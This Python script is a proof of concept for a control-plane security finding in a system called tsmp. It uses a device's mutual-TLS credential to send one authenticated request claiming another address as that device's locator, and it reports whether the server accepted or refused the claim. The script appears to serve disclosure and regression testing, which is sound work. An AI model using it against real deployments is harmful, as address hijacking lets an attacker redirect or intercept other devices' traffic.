#!/usr/bin/env python3
"""What an attacker with a device credential does (issue "Control-plane security", finding 1):
claim an address that is not its own as its locator, with one authenticated request.

    claim_locator.py CREDENTIAL NAMESPACE_URL ADDRESS [AGENT_PORT]

Speaks mutual TLS with the credential's key and certificate (a tsmp credential file is JSON
with keyPEM, certificatePEM, caPEM), sends `PUT /v1/locator` with a fresh request id and time,
prints the HTTP status and the body, and exits 0 when the namespace accepted it (2xx), 1 when it
refused it, 2 on a usage or connection error.
"""
import http.client
import json
import os
import secrets
import ssl
import sys
import tempfile
import time
import urllib.parse


def main():
    if len(sys.argv) not in (4, 5):
        print(__doc__.strip().splitlines()[3].strip(), file=sys.stderr)
        return 2
    cred = json.load(open(sys.argv[1]))
    url = urllib.parse.urlsplit(sys.argv[2])
    body = {"address": sys.argv[3]}
    if len(sys.argv) == 5:
        body["agentPort"] = int(sys.argv[4])
    with tempfile.TemporaryDirectory() as tmp:
        paths = {}
        for name in ("keyPEM", "certificatePEM", "caPEM"):
            paths[name] = os.path.join(tmp, name)
            with open(paths[name], "w") as f:
                f.write(cred[name])
        ctx = ssl.create_default_context(ssl.Purpose.SERVER_AUTH, cafile=paths["caPEM"])
        ctx.check_hostname = False  # tsmp checks identities, not host names
        ctx.load_cert_chain(paths["certificatePEM"], paths["keyPEM"])
        try:
            conn = http.client.HTTPSConnection(url.hostname, url.port or 443, context=ctx, timeout=10)
            conn.request("PUT", "/v1/locator", body=json.dumps(body), headers={
                "Content-Type": "application/json",
                "TSMP-Request-ID": secrets.token_hex(16),
                "TSMP-Request-Time": str(int(time.time() * 1000)),
            })
            answer = conn.getresponse()
            text = answer.read().decode(errors="replace").strip()
        except OSError as e:
            print(f"cannot reach {sys.argv[2]}: {e}", file=sys.stderr)
            return 2
    print(answer.status, text)
    return 0 if 200 <= answer.status < 300 else 1


if __name__ == "__main__":
    sys.exit(main())
